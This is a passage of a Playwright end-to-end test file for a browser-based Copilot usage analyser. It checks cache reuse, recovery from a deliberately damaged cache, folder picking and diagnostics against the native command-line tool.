    // "Forget it" is in the input panel, folded to a line after an analysis.
    if (await page.isHidden('#input-body')) await page.click('#input-expand');
    await page.click('#forget-folder');
    await page.waitForSelector('#remembered[hidden]', { state: 'attached' });
    await page.waitForFunction(async () => {
      const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
      const index = JSON.parse(await (await (await dir.getFileHandle('index.json')).getFile()).text());
      return Object.keys(index.inputs).length === 0;
    });
    assertEqual((await cacheFolder(page)).files, ['index.json'], 'nothing but the empty index is left');
    assertEqual(errors, [], 'no page errors');
    return `${refreshed.from_cache} files from the cache and ${refreshed.changed} changed after the changes; ${Object.keys(cached).length} exports equal cold; cleared, forgotten`;
  } finally {
    await browser.close();
  }
});

/** Picks `folder` and waits until its analysis is done and kept in the cache; returns what the cache did. */
async function pickKept(page, folder) {
  await page.evaluate(() => (window.copilotLens.cache = 'before'));
  await page.setInputFiles('#pick-folder', folder);
  await page.waitForFunction(() => window.copilotLens.cache !== 'before' && document.body.dataset.state === 'done', null, { timeout: 120_000 });
  // The worker keeps the cache after done, before it says the analysis settled.
  await page.waitForFunction(() => window.copilotLens.settled !== null);
  return page.evaluate(() => window.copilotLens.cache);
}

test('diagnostics: kinds of event a newer Copilot CLI wrote are named per version as the native report.json names them, with a summary of names and counts to copy (fixtures/hostile/format-drift)', async () => {
  const fixture = path.join(ROOT, 'fixtures/hostile/format-drift');
  const out = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-drift-'));
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['analyze', fixture, '--out', out, '--no-cache'], { stdio: 'ignore' });
  const drifts = JSON.parse(readFileSync(path.join(out, 'report.json'), 'utf8')).format_drift;
  rmSync(out, { recursive: true, force: true });
  const browser = await launch();
  try {
    await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, fixture);
    await showView(page, 'diagnostics');
    const summary = await page.textContent('#format-drift-summary');
    assertEqual(summary.split('\n').length, drifts.length, 'a line a version');
    for (const drift of drifts) {
      const line = summary.split('\n').find((l) => l.startsWith(drift.message));
      assert(line, `the native message is shown: ${drift.message}`);
      for (const [kind, lines] of Object.entries(drift.event_types)) assert(line.includes(`${kind} (${lines})`), `${kind} counted: ${line}`);
    }
    assert(!summary.includes('A1b2C3d4'), 'a kind named by a token is shown scrubbed');
    await page.click('#view-diagnostics button:has-text("Copy the summary")');
    await page.waitForFunction(() => document.getElementById('format-drift-copied').textContent.includes('Copied'));
    assertEqual(await page.evaluate(() => navigator.clipboard.readText()), summary, 'the summary is what is copied');
    assertEqual(errors, [], 'no page errors');
    return summary.split('\n')[1];
  } finally {
    await browser.close();
  }
});

test('the page, live: the tab\'s title says today\'s credits as the native usage counts them; a remembered folder is analysed again on a timer while the tab is visible, from the cache, says what a refresh costs, and pauses while the tab is hidden', async () => {
  const home = path.join(TMP, 'live-home');
  rmSync(home, { recursive: true, force: true });
  cpSync(path.join(ROOT, 'fixtures/credits/01-billed-two-days'), home, { recursive: true });
  const today = '2026-10-07';
  const cliToday = nativeUsage(home, ['--since', today, '--until', today]).rows.reduce((sum, row) => sum + row.credits, 0);
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, errors } = await openPage(browser, `${origin}/?today=${today}`, origin);
    const title = await page.title();
    const encoded = (rel) => ({ path: rel, b64: readFileSync(path.join(home, rel)).toString('base64') });
    await pickerReturning(page, 'live-home', filesUnder(home).map(encoded));
    await page.check('#remember-folder');
    await openMain(page);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the remembered folder is analysed');
    await page.waitForFunction((t) => document.title !== t, title);
    assertEqual(await page.title(), `${cliToday.toFixed(2)} cr today · ${title}`, "the tab's title: today's credits, as the native usage --since today --until today");

    // www/live.js, which makes the control, is fetched once a remembered folder is analysed.
    assert(await shownSoon(page, '#auto-refresh-line'), 'a remembered folder offers a refresh on a timer');
    // Every three seconds for the test: the menu offers minutes.
    await page.evaluate(() => document.getElementById('auto-refresh').append(new Option('3 s', '0.05')));
    await page.waitForFunction(() => window.copilotLens.settled !== null);
    await page.evaluate(() => (window.copilotLens.cache = 'before the timer'));
    await page.selectOption('#auto-refresh', '0.05');
    const note = await page.textContent('#auto-refresh-note');
    assert(/^Refreshing every 0\.05 min while this tab is visible; the last analysis took \d+\.\d s: \d+ files? read, 0 from the cache\.$/.test(note), `it says what a refresh costs: ${note}`);
    await page.waitForFunction(() => typeof window.copilotLens.cache === 'object' && window.copilotLens.cache && document.body.dataset.state === 'done', null, { timeout: 30_000 });
    const timed = await page.evaluate(() => window.copilotLens.cache);
    assert(timed.from_cache > 0 && timed.changed === 0, `the timer's analysis took every file from the cache: ${JSON.stringify(timed)}`);
    assertEqual(await page.evaluate(() => localStorage.getItem('copilot-lens.refresh-minutes')), '0.05', 'the choice is remembered');

    // Hidden: paused, and no analysis starts.
    await page.waitForFunction(() => window.copilotLens.settled !== null);
    await page.evaluate(() => {
      Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
      document.dispatchEvent(new Event('visibilitychange'));
      window.copilotLens.cache = 'while hidden';
    });
    assert((await page.textContent('#auto-refresh-note')).includes('visible (paused);'), 'the note says it is paused');
    await page.waitForTimeout(6000);
    assertEqual(await page.evaluate(() => window.copilotLens.cache), 'while hidden', 'no analysis while the tab is hidden');

    await page.click('#start-over');
    await page.waitForFunction((t) => document.title === t, title);
    assertEqual(errors, [], 'no page errors');
    return `title "${cliToday.toFixed(2)} cr today"; refreshed on the timer with ${timed.from_cache} files from the cache; paused while hidden`;
  } finally {
    await browser.close();
  }
});

test('the cache: a picked folder analysed again opens none of the logs whose size and time are as when the cache took them, and reads the one edited since; its exports equal a cold analysis', async () => {
  const { home, state, first } = specHome('unread-home');
  for (const n of [2, 3]) copySpecSession(home, n);
  // Every file as written two days ago: long settled when the first analysis reads it.
  const twoDaysAgo = Date.now() / 1000 - 2 * 86400;
  for (const rel of filesUnder(home)) utimesSync(path.join(home, rel), twoDaysAgo, twoDaysAgo);
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    const analysed = () => pickKept(page, home);
    const cold = await analysed();
    assertEqual([cold.from_cache, cold.unread], [0, 0], 'the first analysis takes nothing from the cache');
    const again = await analysed();
    assertEqual([again.changed, again.from_cache, again.unread], [0, 4, 3], 'the three logs came from the cache unopened, and the store (keyed by its bytes)');
    assert((await page.textContent('#cache-status')).endsWith(': 0 files changed, 4 from the cache (3 not opened).'), await page.textContent('#cache-status'));

    // An edit: the log's time is now, its size kept.
    const edited = path.join(state, first.replace(/1$/, '2'), 'events.jsonl');
    const text = readFileSync(edited, 'utf8');
    assert(text.includes('fix the failing test'), 'the log to edit holds the prompt');
    writeFileSync(edited, text.replace('fix the failing test', 'fix the passing test'));
    const refreshed = await analysed();
    assertEqual([refreshed.changed, refreshed.from_cache, refreshed.unread], [1, 3, 2], 'the edited log was read, the other two not');
    const exports = await everyExport(page);
    const expected = native(home, { byName: true });
    assert(expected.rowsJsonl.includes('fix the passing test'), 'the edit is in the native rows');
    for (const [name, text] of [['rows.jsonl', expected.rowsJsonl], ['sessions.jsonl', expected.sessionsJsonl], ['inventory.json', expected.inventoryJson], ['usage.csv', expected.usageCsv]]) {
      assert(exports[name] === text, `${name} of the analysis from the cache equals the native CLI's`);
    }
    // Cold, after Clear the cache: every export is the same bytes (the report's file sizes too).
    await page.click('#clear-cache');
    await page.waitForFunction(() => document.getElementById('cache-status').textContent.startsWith('The cache is cleared'));
    assertEqual((await analysed()).from_cache, 0, 'analysed cold');
    const coldExports = await everyExport(page);
    assertEqual(Object.keys(exports).sort(), Object.keys(coldExports).sort(), 'the same exports');
    for (const name of Object.keys(coldExports)) assert(exports[name] === coldExports[name], `${name}: the analysis from the cache equals the cold one, byte for byte`);
    assertEqual(errors, [], 'no page errors');
    return `${again.unread} logs not opened when nothing changed; ${refreshed.unread} after one was edited; ${Object.keys(exports).length} exports equal cold`;
  } finally {
    await browser.close();
    rmSync(home, { recursive: true, force: true });
  }
});

/** The bytes of the file `name` of the page's cache folder. */
async function cacheFileBytes(page, name) {
  const b64 = await page.evaluate(async (name) => {
    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
    const bytes = new Uint8Array(await (await (await dir.getFileHandle(name)).getFile()).arrayBuffer());
    let text = '';
    for (const b of bytes) text += String.fromCharCode(b);
    return btoa(text);
  }, name);
  return Buffer.from(b64, 'base64');
}

/** The size of the file `name` of the page's cache folder. */
function cacheFileSize(page, name) {
  return page.evaluate(async (name) => {
    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
    return (await (await dir.getFileHandle(name)).getFile()).size;
  }, name);
}

/**
 * Changes the file `name` of the page's cache folder: `writes` ({at, b64}) over it, after it is
 * cut (or grown with zeros) to `size` if given.
 */
async function damageCacheFile(page, name, { size = null, writes = [] }) {
  await page.evaluate(async ({ name, size, writes }) => {
    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
    const writable = await (await dir.getFileHandle(name)).createWritable({ keepExistingData: true });
    if (size !== null) await writable.truncate(size);
    for (const { at, b64 } of writes) await writable.write({ type: 'write', position: at, data: Uint8Array.from(atob(b64), (c) => c.charCodeAt(0)) });
    await writable.close();
  }, { name, size, writes });
}

/**
 * The entries a pack's index names ({name, start, length}): the index is postcard (src/page/pack.rs,
 * PackIndex: version, build, full, then each entry's name, start, length, time and what it was made
 * for), before its length and the format's magic.
 */
function packEntries(pack) {
  assertEqual(pack.subarray(-8).toString('latin1'), 'CLpack04', 'the pack ends in the magic of its format');
  let at = pack.length - 16 - Number(pack.readBigUInt64LE(pack.length - 16));
  const varint = () => {
    let [value, scale] = [0, 1];
    for (;;) {
      assert(at < pack.length, 'the index ends inside the pack');
      const byte = pack[at++];
      value += (byte & 0x7f) * scale;
      if (byte < 0x80) return value;
      scale *= 128;
    }
  };
  const text = () => {
    const length = varint();
    return pack.toString('utf8', at, (at += length));
  };
  const option = (read) => pack[at++] && read();
  text();
  text();
  at++;
  const entries = [];
  for (let count = varint(); count > 0; count--) {
    const [name, start, length] = [text(), varint(), varint()];
    option(varint);
    option(() => [varint(), varint()]);
    entries.push({ name, start, length });
  }
  return entries;
}

/** The report without its cache_ignored diagnostics, and those. */
function withoutCacheIgnored(reportJson) {
  const report = JSON.parse(reportJson);
  const ignored = report.diagnostics.filter((d) => d.kind === 'cache_ignored');
  report.diagnostics = report.diagnostics.filter((d) => d.kind !== 'cache_ignored');
  for (const file of report.files) if (ignored.some((d) => d.file === file.path && d.message === file.message)) delete file.message;
  return { report, ignored };
}

test('the cache: a damaged pack (bits flipped inside its logs\' entries, 1 GiB of zeros, cut short) never changes a figure or an export: the entries or the pack are dropped with a word, the file read again, and the next analysis uses the cache again', async () => {
  const { home, first } = specHome('damaged-pack-home');
  const logs = [first, copySpecSession(home, 2), copySpecSession(home, 3)].map((id) => `.copilot/session-state/${id}/events.jsonl`);
  // Long settled: the logs are taken from their entries unopened, the damaged ones too.
  const twoDaysAgo = Date.now() / 1000 - 2 * 86400;
  for (const rel of filesUnder(home)) utimesSync(path.join(home, rel), twoDaysAgo, twoDaysAgo);
  const expected = native(home, { byName: true });
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    const analysed = () => pickKept(page, home);
    const cold = await analysed();
    assertEqual([cold.from_cache, cold.problem], [0, null], 'the first analysis takes nothing from the cache');
    const coldExports = await everyExport(page);
    for (const [name, text] of [['rows.jsonl', expected.rowsJsonl], ['sessions.jsonl', expected.sessionsJsonl], ['inventory.json', expected.inventoryJson], ['usage.csv', expected.usageCsv]]) {
      assert(coldExports[name] === text, `${name} of the cold analysis equals the native CLI's`);
    }
    const warm = await analysed();
    assertEqual([warm.changed, warm.from_cache, warm.unread], [0, 4, 3], 'the three logs and the store came from the cache');
    const index = await page.evaluate(async () => {
      const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache');
      return JSON.parse(await (await (await dir.getFileHandle('index.json')).getFile()).text());
    });
    const packs = Object.values(index.inputs).map((input) => input.file);
    assertEqual(packs.length, 1, 'one input, one pack');
    const pack = packs[0];

    /** Analyses the home again after a damage: every export as cold, the cache's word; returns them. */
    const afterDamage = async (label) => {
      const run = await analysed();
      const exports = await everyExport(page);
      assertEqual(Object.keys(exports).sort(), Object.keys(coldExports).sort(), `${label}: the same exports`);
      for (const name of Object.keys(exports)) {
        if (name !== 'report.json') assert(exports[name] === coldExports[name], `${label}: ${name} equals the cold analysis's, byte for byte`);
      }
      const { report, ignored } = withoutCacheIgnored(exports['report.json']);
      assertEqual(report, JSON.parse(coldExports['report.json']), `${label}: report.json equals the cold analysis's but for the cache's diagnostics`);
      assertEqual(await summaryOf(page), sortKeys(expected.summary), `${label}: the summary equals the native CLI's`);
      return { run, ignored, line: await page.textContent('#cache-status') };
    };
    /** The next analysis takes everything from the cache again, and says nothing of a damage. */
    const healed = async (label) => {
      const again = await analysed();
      assertEqual([again.changed, again.from_cache, again.unread, again.problem], [0, 4, 3, null], `${label}: the next analysis takes the logs and the store from the cache again`);
      assertEqual(withoutCacheIgnored((await exportFile(page, 'report.json')).text).ignored, [], `${label}: and has no word of the cache`);
    };

    // 1. Bits flipped in the middle of each log's entry: each entry is ignored with its diagnostic, its log read.
    const bytes = await cacheFileBytes(page, pack);
    const logEntries = packEntries(bytes).filter((entry) => entry.name.startsWith('log-'));
    assertEqual(logEntries.length, 3, 'an entry a log');
    const writes = logEntries.map(({ start, length }) => {
      const at = start + Math.floor(length / 2);
      return { at, b64: Buffer.from(bytes.subarray(at, at + 16).map((b) => b ^ 0xff)).toString('base64') };
    });
    await damageCacheFile(page, pack, { writes });
    const flipped = await afterDamage('bits flipped');
    assertEqual([flipped.run.changed, flipped.run.from_cache, flipped.run.problem], [3, 1, null], 'bits flipped: the three logs were parsed again, the store came from the cache');
    assertEqual(flipped.ignored.map((d) => d.file).sort(), [...logs].sort(), 'bits flipped: a cache_ignored diagnostic for each log');
    for (const { message } of flipped.ignored) assertEqual(message, "the cache's entry is damaged (its checksum differs): ignored, the log was parsed again", 'bits flipped: the diagnostic says why');
    await showView(page, 'diagnostics');
    const problems = await page.textContent('#view-diagnostics');
    assert(problems.includes('cache_ignored') && problems.includes("the cache's entry is damaged (its checksum differs)"), 'bits flipped: Diagnostics lists the damaged entries');
    await healed('bits flipped');

    // 2. The pack made 1 GiB of zeros (and 3. cut to half its size): dropped whole with a word; analysed cold and kept anew.
    const lines = [];
    for (const [label, sizeOf] of [['1 GiB of zeros', async () => 1 << 30], ['cut short', async () => Math.floor((await cacheFileSize(page, pack)) / 2)]]) {
      const size = await sizeOf();
      if (label.endsWith('zeros')) await damageCacheFile(page, pack, { size: 0 });
      await damageCacheFile(page, pack, { size });
      assertEqual(await cacheFileSize(page, pack), size, `${label}: the pack's size`);
      const { run, ignored, line } = await afterDamage(label);
      const problem = 'The cache kept in this browser is damaged: analysed anew.';
      assertEqual([run.changed, run.from_cache, run.problem], [cold.changed, 0, problem], `${label}: every file read, and why`);
      assertEqual(ignored, [], `${label}: no entry of it was read`);
      assert(/^Analysed in \d+\.\d s; kept in this browser's cache for the next time\. /.test(line) && line.endsWith(` ${problem}`), `${label}: the cache line says so: ${line}`);
      lines.push(line);
      await showView(page, 'diagnostics');
      assertEqual(await page.textContent('#cache-note'), problem, `${label}: and Diagnostics`);
      assert((await cacheFileSize(page, pack)) < 1 << 20, `${label}: the pack is written anew`);
      await healed(label);
    }
    assertEqual(errors, [], 'no page errors');
    return `${flipped.ignored.length} damaged entries ignored, each with its diagnostic; a pack of zeros and one cut short dropped: ${JSON.stringify(lines)}`;
  } finally {
    await browser.close();
    rmSync(home, { recursive: true, force: true });
  }
});

test('the cache: the single-file build from file://, where the browser has no private file system for the page, analyses without it and says why, in the cache line and in Diagnostics', async () => {
  const expected = native(SPEC);
  const browser = await launch();
  try {
    const url = 'file://' + SINGLE;
    const { page, errors } = await openPage(browser, url, url);
    await pick(page, SPEC);
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "the summary equals the native CLI's");
    const line = await page.textContent('#cache-status');
    assert(/^Not cached: .+\.$/.test(line), `the cache line says why: ${line}`);
    assert(await page.isHidden('#clear-cache'), 'nothing to clear');
    await showView(page, 'diagnostics');
    assertEqual(await page.textContent('#cache-note'), `Not used: ${line.slice('Not cached: '.length, -1)}. Every file was read.`, 'Diagnostics says why');
    assertEqual(errors, [], 'no page errors');
    return line;
  } finally {
    await browser.close();
  }
});

test('data in: the main action says first that the files stay in this browser, then opens the folder picker, and the folder is analysed', async () => {
  const expected = native(SPEC);
  const files = filesUnder(SPEC).map((rel) => ({ path: rel, b64: readFileSync(path.join(SPEC, rel)).toString('base64') }));
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    assertEqual(await page.textContent('#open-copilot'), 'Open your .copilot folder', 'one main action, named from the engine');
    await shot(page, 'data-in-start-desktop.png');
    await page.setViewportSize({ width: 390, height: 844 });
    await shot(page, 'data-in-start-390.png');
    assertEqual(await page.evaluate(() => document.documentElement.scrollWidth), 390, 'the start screen fits 390 px');
    await page.setViewportSize({ width: 1400, height: 1000 });
    // The steps of every system, from the engine's folders: this one's open.
    const steps = await page.$$eval('#where-steps details', (all) => all.map((d) => [d.dataset.system, d.textContent]));
    assertEqual(steps.map(([system]) => system), ['windows', 'macos', 'linux'], 'steps for Windows, macOS and Linux');
    const on = Object.fromEntries(steps);
    for (const want of ['%USERPROFILE%\\.copilot', '%APPDATA%\\Code\\User', '%APPDATA%\\Code - Insiders\\User', '~/.vscode-server/data/User']) assert(on.windows.includes(want), `Windows: ${want}`);
    for (const want of ['~/.copilot', 'Cmd+Shift+.', '~/Library/Application Support/Code/User', '~/.vscode-server/data/User', 'workspaceStorage/*/chatSessions', 'workspaceStorage/*/GitHub.copilot-chat/debug-logs']) assert(on.macos.includes(want), `macOS: ${want}`);
    for (const want of ['~/.copilot', '~/.config/Code/User', '~/.config/Code - Insiders/User']) assert(on.linux.includes(want), `Linux: ${want}`);

    await pickerReturning(page, '.copilot-picked', files);
    await page.evaluate(() => {
      const pick = window.showDirectoryPicker;
      window.__picker = [];
      window.showDirectoryPicker = (options) => {
        window.__picker.push(document.getElementById('before-prompt-text').textContent);
        return pick(options);
      };
    });
    await page.click('#open-copilot');
    const word = await page.textContent('#before-prompt-text');
    assert(await page.isVisible('#before-prompt-text'), 'the word before the prompt is shown');
    assert(/read here, in this browser, and nothing is sent/.test(word), word);
    assertEqual(await page.evaluate(() => window.__picker.length), 0, 'the picker is not open yet');
    await page.click('#before-prompt-go');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the picked folder is analysed');
    assertEqual(await page.evaluate(() => window.__picker.length), 1, 'the picker opened once, after the word');
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "the summary equals the native CLI's");

    // Without File System Access (Firefox, Safari) the same action opens <input webkitdirectory>.
    await page.click('#start-over');
    await page.evaluate(() => delete window.showDirectoryPicker);
    await page.click('#open-copilot');
    assert(await page.isVisible('#before-prompt-text'), 'the word comes first there too');
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#before-prompt-go')]);
    assertEqual(await (await chooser.element()).getAttribute('id'), 'pick-folder', 'the folder input is the one opened');
    await chooser.setFiles(SPEC);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the folder input is analysed');
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "and equals the native CLI's");
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'main action');
    return 'word shown, then the picker; both pickers analyse the folder as the CLI does';
  } finally {
    await browser.close();
  }
});

test('data in: a home with 30,000 unrelated files is analysed with only its Copilot files given to the worker, and picking its .copilot folder is suggested', async () => {
  const home = path.join(TMP, 'big-home');
  mkdirSync(home, { recursive: true });
  execFileSync('cp', ['-r', path.join(SPEC, '.copilot'), home]);
  const unrelated = 30_000;
  for (let folder = 0; folder < unrelated / 100; folder++) {
    const dir = path.join(home, folder % 2 ? 'Documents' : 'src', `project-${folder}`);
    mkdirSync(dir, { recursive: true });
    for (let file = 0; file < 100; file++) writeFileSync(path.join(dir, `note-${file}.txt`), `unrelated ${folder}/${file}\n`);
  }
  const copilotFiles = filesUnder(path.join(home, '.copilot')).length;
  const expected = native(home);
  const alone = native(path.join(home, '.copilot'));
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    // When the browser hands the page its list (it lists the whole home first), and when done.
    await page.evaluate(() => {
      document.getElementById('pick-folder').addEventListener('change', () => (window.__listedAt = performance.now()), { capture: true });
      new MutationObserver(() => document.body.dataset.state === 'done' && (window.__doneAt ??= performance.now())).observe(document.body, { attributes: true });
    });
    const started = Date.now();
    await page.setInputFiles('#pick-folder', home);
    assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', 'the home is analysed');
    const seconds = (Date.now() - started) / 1000;
    const afterList = await page.evaluate(() => (window.__doneAt - window.__listedAt) / 1000);
    await page.waitForFunction(() => window.copilotLens.settled !== null, null, { timeout: 120_000 });
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "the summary equals the native CLI's on the home");
    const handed = await page.evaluate(() => window.copilotLens.handedOver);
    assertEqual(handed.paths, copilotFiles, 'the worker was told only the Copilot files of the home');
    assert(handed.files <= 2 * copilotFiles, `only those were posted (each at most twice, a log read again): ${JSON.stringify(handed)} of ${copilotFiles}`);
    const hint = await page.textContent('#pick-hint');
    assert(await page.isVisible('#pick-hint'), 'the suggestion is shown');
    assert(hint.includes(`${fmtInt(unrelated)} of its other files were left unread`) && hint.includes("Copilot CLI's .copilot folder"), hint);

    // What posting every File of the pick would cost: the same FileList sent over a channel once.
    await page.evaluate(() => document.body.appendChild(Object.assign(document.createElement('input'), { type: 'file', id: 'measure', webkitdirectory: true })));
    await page.setInputFiles('#measure', home);
    const postAll = await page.evaluate(async () => {
      const { rootsFromFolderInput } = await import('./input.js');
      const filterStarted = performance.now();
      const [root] = rootsFromFolderInput(document.getElementById('measure').files);
      const filter = { kept: root.count, seconds: (performance.now() - filterStarted) / 1000 };
      const files = [...document.getElementById('measure').files];
      const { port1, port2 } = new MessageChannel();
      const started = performance.now();
      const got = new Promise((resolve) => (port2.onmessage = (event) => resolve(event.data.length)));
      port2.start();
      port1.postMessage(files);
      return { files: await got, seconds: (performance.now() - started) / 1000, filter };
    });
    assertEqual(postAll.filter.kept, copilotFiles, "the page's filter keeps the Copilot files");
    assertEqual(postAll.files, unrelated + copilotFiles, 'the whole pick, for comparison');

    // The same home as a directory handle (the main action where File System Access is): only
    // its Copilot folders are listed, the others never opened.
    await page.click('#start-over');
    const copilot = filesUnder(path.join(home, '.copilot')).map((rel) => ({ path: `.copilot/${rel}`, b64: readFileSync(path.join(home, '.copilot', rel)).toString('base64') }));
    await page.evaluate(({ list, folders }) => {
      window.__listed = [];
      const dir = (name, at) => ({ kind: 'directory', name, at, dirs: new Map(), files: [] });
      const top = dir('big-home', '');
      const place = (filePath, file) => {
        const parts = filePath.split('/');
        let node = top;
        for (const part of parts.slice(0, -1)) {
          if (!node.dirs.has(part)) node.dirs.set(part, dir(part, node.at + part + '/'));
          node = node.dirs.get(part);
        }
        node.files.push({ kind: 'file', name: parts[parts.length - 1], getFile: async () => file });
      };
      for (const f of list) place(f.path, new File([Uint8Array.from(atob(f.b64), (c) => c.charCodeAt(0))], f.path.split('/').pop()));
      for (let folder = 0; folder < folders; folder++) {
        for (let file = 0; file < 100; file++) place(`${folder % 2 ? 'Documents' : 'src'}/project-${folder}/note-${file}.txt`, new File([`unrelated ${folder}/${file}\n`], `note-${file}.txt`));
      }
      const handle = (node) => ({
        kind: 'directory',
        name: node.name,
        async *values() {
          window.__listed.push(node.at);
          for (const child of node.dirs.values()) yield handle(child);
          yield* node.files;
        },
      });
      window.showDirectoryPicker = async () => handle(top);
    }, { list: copilot, folders: unrelated / 100 });
    const handleStarted = Date.now();
    await openMain(page);
    assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', 'the home as a handle is analysed');
    const handleSeconds = (Date.now() - handleStarted) / 1000;
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "as a handle too, the summary equals the native CLI's");
    const listedFolders = await page.evaluate(() => window.__listed);
    assertEqual(listedFolders.filter((at) => !(at === '' || at.startsWith('.copilot/'))), [], 'no folder outside .copilot was listed');
    assert(await page.isVisible('#pick-hint'), 'the suggestion is shown for a handle too');
    assertEqual(errors, [], 'no page errors');
    return `${fmtInt(unrelated + copilotFiles)} files picked: done in ${seconds.toFixed(1)} s (${afterList.toFixed(2)} s after the browser's list) with ${handed.paths} paths and ${handed.files} files posted (native ${expected.seconds.toFixed(2)} s, its .copilot alone ${alone.seconds.toFixed(2)} s); filtering the list took ${postAll.filter.seconds.toFixed(2)} s, posting all ${fmtInt(postAll.files)} Files would take ${postAll.seconds.toFixed(1)} s; as a directory handle ${handleSeconds.toFixed(1)} s, ${listedFolders.length} folders listed`;
  } finally {
    await browser.close();
    rmSync(home, { recursive: true, force: true });
  }
});

test("data in: VS Code's User folder added after a .copilot folder gives both agents' rows, equal to the native CLI given both; start over empties it", async () => {
  const both = path.join(TMP, 'both');
  mkdirSync(both, { recursive: true });
  execFileSync('cp', ['-r', path.join(SPEC, '.copilot'), both]);
  execFileSync('cp', ['-r', path.join(ROOT, 'fixtures/vscode/03-json-and-jsonl/.config/Code/User'), both]);
  const cli = path.join(both, '.copilot');
  const user = path.join(both, 'User');
  const expected = native([cli, user], { byName: true });
  const agents = [...new Set(expected.rowsJsonl.split('\n').filter(Boolean).map((line) => JSON.parse(line).agent))].sort();
  assertEqual(agents, ['copilot-cli', 'copilot-vscode'], 'the native rows are of both agents');
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, cli);
    assertEqual(await page.textContent('#input-summary'), 'Analysed: .copilot (Copilot CLI)', 'what is in: the CLI folder');
    assert((await page.textContent('#open-copilot')).startsWith("Add a folder (VS Code's User folder"), 'the main action now adds');
    // The second folder through the main action: the input it opens without File System Access adds.
    await page.evaluate(() => delete window.showDirectoryPicker);
    await page.click('#input-expand');
    await page.click('#open-copilot');
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#before-prompt-go')]);
    await chooser.setFiles(user);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'both are analysed');
    assertEqual(await page.textContent('#input-summary'), 'Analysed: .copilot (Copilot CLI) + User (VS Code)', 'what is in: both');
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "the summary equals the native CLI's given both roots");
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, "rows.jsonl (both agents' rows) equals the native one byte for byte");
    await page.click('#start-over');
    assertEqual(await page.evaluate(() => window.copilotLens.state), 'idle', 'start over: back to the start screen');
    assertEqual(await page.textContent('#open-copilot'), 'Open your .copilot folder', 'the main action opens a first folder again');
    await pick(page, user);
    assertEqual(await page.textContent('#input-summary'), 'Analysed: User (VS Code)', 'a pick after starting over is alone');
    assertEqual(errors, [], 'no page errors');
    return `${expected.summary.rows} rows of ${agents.join(' and ')}`;
  } finally {
    await browser.close();
  }
});

test('data in: the input panel folds to one line after an analysis and opens again', async () => {
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    assert(await page.isVisible('#input-body') && (await page.isHidden('#input-collapsed')), 'open before an analysis');
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');
    assert(await page.isHidden('#input-body'), 'folded after it');
    assertEqual(await page.textContent('#input-summary'), 'Analysed: copilot-demo.zip', 'one line says what is in');
    const height = await page.$eval('#input-panel', (el) => el.getBoundingClientRect().height);
    assert(height < 60, `the folded panel is one line high: ${height} px`);
    assertEqual(await page.getAttribute('#input-expand', 'aria-expanded'), 'false', 'its button says it is closed');
    await page.click('#input-expand');
    assert(await page.isVisible('#input-body') && (await page.isVisible('#open-copilot')), 'open again on its button');
    assertEqual(await page.getAttribute('#input-expand', 'aria-expanded'), 'true', 'and says so');
    await page.click('#input-expand');
    assert(await page.isHidden('#input-body'), 'and folded again');
    await shot(page, 'data-in-folded.png', false);
    assertEqual(errors, [], 'no page errors');
    return 'folded, opened, folded';
  } finally {
    await browser.close();
  }
});

test('data in: a folder with no Copilot data names both sources and what was looked for, as the native CLI does', async () => {
  const photos = path.join(TMP, 'photos');
  mkdirSync(photos, { recursive: true });
  writeFileSync(path.join(photos, 'cat.jpg'), 'meow');
  const refusal = nativeRefusal(photos);
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await page.setInputFiles('#pick-folder', photos);
    assertEqual(await waitForState(page, ['done', 'error']), 'error', 'refused');
    const shown = await page.textContent('#error-message');
    assertEqual(shown, refusal, 'the page says what the CLI says');
    for (const want of ["Copilot CLI's .copilot folder", 'session-state', 'session-store.db', "VS Code's User folder", 'workspaceStorage', 'a home folder']) {
      assert(shown.includes(want), `it names ${want}: ${shown}`);
    }
    await shot(page, 'data-in-wrong-folder.png', false);
    assertEqual(errors, [], 'no page errors');
    return shown;
  } finally {
    await browser.close();
  }
});

test('times show in UTC or in the browser\'s zone, the choice remembered and nothing else; usage days stay UTC and say so', async () => {
  const browser = await launch({ timezoneId: 'Asia/Tokyo' });
  try {
